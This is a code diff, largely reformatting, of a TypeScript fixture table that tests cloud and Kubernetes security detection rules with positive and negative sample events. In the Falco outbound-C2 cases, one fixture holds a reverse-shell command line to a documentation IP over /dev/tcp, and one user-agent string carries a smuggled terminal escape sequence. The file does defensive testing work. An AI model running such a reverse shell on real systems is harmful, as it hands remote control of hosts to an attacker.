+    ],
   },
   'cloudtrail.s3-getobject-volume': {
     pos: [
       ['100 in 200 s from a public IP', () => burst(100), 1],
-      ['100 in 200 s from inside the VPC', () => burst(100).map((e) => ({ ...e, raw: { ...(e.raw as object), sourceIPAddress: '10.20.3.14' } })), 2],
+      [
+        '100 in 200 s from inside the VPC',
+        () => burst(100).map((e) => ({ ...e, raw: { ...(e.raw as object), sourceIPAddress: '10.20.3.14' } })),
+        2,
+      ],
     ],
     neg: [
       ['99 in 200 s', () => burst(99)],
-      ['100 spread over two principals', () => [...burst(50, 'arn:aws:sts::123456789012:assumed-role/a/1'), ...burst(50, 'arn:aws:sts::123456789012:assumed-role/a/2')]],
+      [
+        '100 spread over two principals',
+        () => [
+          ...burst(50, 'arn:aws:sts::123456789012:assumed-role/a/1'),
+          ...burst(50, 'arn:aws:sts::123456789012:assumed-role/a/2'),
+        ],
+      ],
     ],
   },
   'guardduty.finding': {
@@ -194,11 +688,25 @@ export const CASES: Record<string, Case> = {
       ['Medium (5) → Sev2', () => finding('Recon:EC2/PortProbeUnprotectedPort', 5), 2],
       ['exactly 4 as a string → Sev2', () => finding('Recon:EC2/Portscan', '4.0'), 2],
       ['Low (2) → Sev3', () => finding('Policy:IAMUser/RootCredentialUsage', 2), 3],
-      ['EventBridge-wrapped', () => ({ ...finding('x', 1), raw: { 'detail-type': 'GuardDuty Finding', source: 'aws.guardduty', detail: { type: 'Backdoor:EC2/C&CActivity.B', severity: 8.5 } } }), 1],
+      [
+        'EventBridge-wrapped',
+        () => ({
+          ...finding('x', 1),
+          raw: {
+            'detail-type': 'GuardDuty Finding',
+            source: 'aws.guardduty',
+            detail: { type: 'Backdoor:EC2/C&CActivity.B', severity: 8.5 },
+          },
+        }),
+        1,
+      ],
     ],
     neg: [
       ['archived', () => finding('Recon:EC2/Portscan', 5, { service: { archived: true } })],
-      ['sample finding', () => finding('Recon:EC2/Portscan', 5, { service: { archived: false, additionalInfo: { sample: true } } })],
+      [
+        'sample finding',
+        () => finding('Recon:EC2/Portscan', 5, { service: { archived: false, additionalInfo: { sample: true } } }),
+      ],
       ['no severity number', () => finding('Recon:EC2/Portscan', 'high')],
       ['GuardDuty API call, no finding', () => ct('guardduty.amazonaws.com', 'ListFindings')],
     ],
@@ -218,23 +726,51 @@ export const CASES: Record<string, Case> = {
   'k8s.secret-read': {
     pos: [
       ['person gets a secret', () => secretGet(SAM, 'kubectl/v1.29.4'), 2],
-      ['person lists secrets, denied', () => audit({ verb: 'list', objectRef: { resource: 'secrets', namespace: 'payments' }, ...FORBIDDEN }), 3],
+      [
+        'person lists secrets, denied',
+        () => audit({ verb: 'list', objectRef: { resource: 'secrets', namespace: 'payments' }, ...FORBIDDEN }),
+        3,
+      ],
     ],
     neg: [
-      ['node reads a secret', () => secretGet({ username: 'system:node:ip-10-30-12-84', groups: ['system:nodes'] }, 'kubelet/v1.29.4')],
-      ['person reads a configmap', () => audit({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'payments', name: 'x' } })],
-      ['person updates a secret', () => audit({ verb: 'update', objectRef: { resource: 'secrets', namespace: 'payments', name: 'x' } })],
+      [
+        'node reads a secret',
+        () => secretGet({ username: 'system:node:ip-10-30-12-84', groups: ['system:nodes'] }, 'kubelet/v1.29.4'),
+      ],
+      [
+        'person reads a configmap',
+        () => audit({ verb: 'get', objectRef: { resource: 'configmaps', namespace: 'payments', name: 'x' } }),
+      ],
+      [
+        'person updates a secret',
+        () => audit({ verb: 'update', objectRef: { resource: 'secrets', namespace: 'payments', name: 'x' } }),
+      ],
     ],
   },
   'k8s.secret-read-by-workload': {
     pos: [
       ['own token used with curl', () => secretGet(API_SA, 'curl/8.5.0'), 1],
-      ['python-requests from outside, denied', () => secretGet(API_SA, 'python-requests/2.31.0\u001b[1A', 'payments', FORBIDDEN), 2],
+      [
+        'python-requests from outside, denied',
+        () => secretGet(API_SA, 'python-requests/2.31.0\u001b[1A', 'payments', FORBIDDEN),
+        2,
+      ],
       ['another namespace’s secrets', () => secretGet(API_SA, 'api/1.4 (linux/amd64) kubernetes/abc', 'billing'), 2],
     ],
     neg: [
-      ['app reads its own namespace with its client library', () => secretGet(API_SA, 'api/1.4 (linux/amd64) kubernetes/abc')],
-      ['kube-system controller across namespaces', () => secretGet({ username: 'system:serviceaccount:kube-system:generic-garbage-collector' }, 'kube-controller-manager/v1.29.4', 'billing')],
+      [
+        'app reads its own namespace with its client library',
+        () => secretGet(API_SA, 'api/1.4 (linux/amd64) kubernetes/abc'),
+      ],
+      [
+        'kube-system controller across namespaces',
+        () =>
+          secretGet(
+            { username: 'system:serviceaccount:kube-system:generic-garbage-collector' },
+            'kube-controller-manager/v1.29.4',
+            'billing',
+          ),
+      ],
       ['person with curl (other rule)', () => secretGet(SAM, 'curl/8.5.0')],
     ],
   },
@@ -242,21 +778,78 @@ export const CASES: Record<string, Case> = {
     pos: [
       ['privileged + hostPath + hostPID', () => podCreate(debugPod), 1],
       ['hostNetwork only', () => podCreate({ hostNetwork: true, containers: [{ name: 'c', image: 'x' }] }), 1],
-      ['DaemonSet template privileged', () => audit({ verb: 'create', objectRef: { resource: 'daemonsets', namespace: 'payments', name: 'ds', apiGroup: 'apps' }, responseStatus: { code: 201 }, requestObject: { spec: { template: { spec: { containers: [{ name: 'c', securityContext: { privileged: true } }] } } } } }), 1],
-      ['denied by admission', () => ({ ...podCreate(debugPod), raw: { ...(podCreate(debugPod).raw as object), responseStatus: { code: 403 } } }), 2],
-      ['Metadata level, PSA annotation', () => audit({ level: 'Metadata', verb: 'create', objectRef: { resource: 'pods', namespace: 'payments', name: 'p' }, responseStatus: { code: 201 }, annotations: { 'pod-security.kubernetes.io/audit-violations': 'would violate PodSecurity "baseline:latest": privileged (container "c" must not set securityContext.privileged=true)' } }), 1],
+      [
+        'DaemonSet template privileged',
+        () =>
+          audit({
+            verb: 'create',
+            objectRef: { resource: 'daemonsets', namespace: 'payments', name: 'ds', apiGroup: 'apps' },
+            responseStatus: { code: 201 },
+            requestObject: {
+              spec: { template: { spec: { containers: [{ name: 'c', securityContext: { privileged: true } }] } } },
+            },
+          }),
+        1,
+      ],
+      [
+        'denied by admission',
+        () => ({
+          ...podCreate(debugPod),
+          raw: { ...(podCreate(debugPod).raw as object), responseStatus: { code: 403 } },
+        }),
+        2,
+      ],
+      [
+        'Metadata level, PSA annotation',
+        () =>
+          audit({
+            level: 'Metadata',
+            verb: 'create',
+            objectRef: { resource: 'pods', namespace: 'payments', name: 'p' },
+            responseStatus: { code: 201 },
+            annotations: {
+              'pod-security.kubernetes.io/audit-violations':
+                'would violate PodSecurity "baseline:latest": privileged (container "c" must not set securityContext.privileged=true)',
+            },
+          }),
+        1,
+      ],
     ],
     neg: [
-      ['ordinary pod', () => podCreate({ containers: [{ name: 'c', image: 'x', securityContext: { privileged: false, runAsNonRoot: true } }] })],
-      ['privileged pod by the DaemonSet controller (template already judged)', () => podCreate(debugPod, { username: 'system:serviceaccount:kube-system:daemon-set-controller' })],
-      ['privileged pod read back', () => ({ ...podCreate(debugPod), raw: { ...(podCreate(debugPod).raw as object), verb: 'get' } })],
+      [
+        'ordinary pod',
+        () =>
+          podCreate({
+            containers: [{ name: 'c', image: 'x', securityContext: { privileged: false, runAsNonRoot: true } }],
+          }),
+      ],
+      [
+        'privileged pod by the DaemonSet controller (template already judged)',
+        () => podCreate(debugPod, { username: 'system:serviceaccount:kube-system:daemon-set-controller' }),
+      ],
+      [
+        'privileged pod read back',
+        () => ({ ...podCreate(debugPod), raw: { ...(podCreate(debugPod).raw as object), verb: 'get' } }),
+      ],
     ],
   },
   'k8s.cluster-admin-binding': {
     pos: [
       ['ClusterRoleBinding to cluster-admin', () => crb('cluster-admin'), 1],
       ['denied', () => crb('cluster-admin', FORBIDDEN), 2],
-      ['RoleBinding to cluster-admin', () => audit({ verb: 'create', objectRef: { resource: 'rolebindings', namespace: 'payments', name: 'x' }, requestObject: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'eve' }] } }), 1],
+      [
+        'RoleBinding to cluster-admin',
+        () =>
+          audit({
+            verb: 'create',
+            objectRef: { resource: 'rolebindings', namespace: 'payments', name: 'x' },
+            requestObject: {
+              roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
+              subjects: [{ kind: 'User', name: 'eve' }],
+            },
+          }),
+        1,
+      ],
     ],
     neg: [
       ['binding to view', () => crb('view')],
@@ -265,8 +858,24 @@ export const CASES: Record<string, Case> = {
   },
   'k8s.anonymous-request': {
     pos: [
-      ['anonymous list of secrets allowed', () => audit({ user: ANONYMOUS, verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' } }), 1],
-      ['anonymous denied', () => audit({ user: ANONYMOUS, verb: 'get', requestURI: '/api/v1/namespaces/kube-system/pods', objectRef: { resource: 'pods', namespace: 'kube-system' }, ...FORBIDDEN }), 3],
+      [
+        'anonymous list of secrets allowed',
+        () =>
+          audit({ user: ANONYMOUS, verb: 'list', requestURI: '/api/v1/secrets', objectRef: { resource: 'secrets' } }),
+        1,
+      ],
+      [
+        'anonymous denied',
+        () =>
+          audit({
+            user: ANONYMOUS,
+            verb: 'get',
+            requestURI: '/api/v1/namespaces/kube-system/pods',
+            objectRef: { resource: 'pods', namespace: 'kube-system' },
+            ...FORBIDDEN,
+          }),
+        3,
+      ],
     ],
     neg: [
       ['anonymous /healthz', () => audit({ user: ANONYMOUS, verb: 'get', requestURI: '/healthz' })],
@@ -301,12 +910,30 @@ export const CASES: Record<string, Case> = {
   },
   'falco.outbound-c2': {
     pos: [
-      ['stock reverse-shell rule', () => falco('Notice', 'Redirect STDOUT/STDIN to Network Connection in Container', { 'fd.sip': '203.0.113.77', 'fd.sport': 4444 }), 0],
-      ['/dev/tcp in the command line', () => falco('Warning', 'Custom shell rule', { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1' }), 0],
+      [
+        'stock reverse-shell rule',
+        () =>
+          falco('Notice', 'Redirect STDOUT/STDIN to Network Connection in Container', {
+            'fd.sip': '203.0.113.77',
+            'fd.sport': 4444,
+          }),
+        0,
+      ],
+      [
+        '/dev/tcp in the command line',
+        () =>
+          falco('Warning', 'Custom shell rule', {
+            'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1',
+          }),
+        0,
+      ],
     ],
     neg: [
       ['terminal shell only', () => falco('Notice', 'Terminal shell in container', { 'proc.cmdline': 'sh' })],
-      ['outbound connection only', () => falco('Notice', 'Unexpected outbound connection destination', { 'fd.sip': '203.0.113.77' })],
+      [
+        'outbound connection only',
+        () => falco('Notice', 'Unexpected outbound connection destination', { 'fd.sip': '203.0.113.77' }),
+      ],
     ],
   },
 };
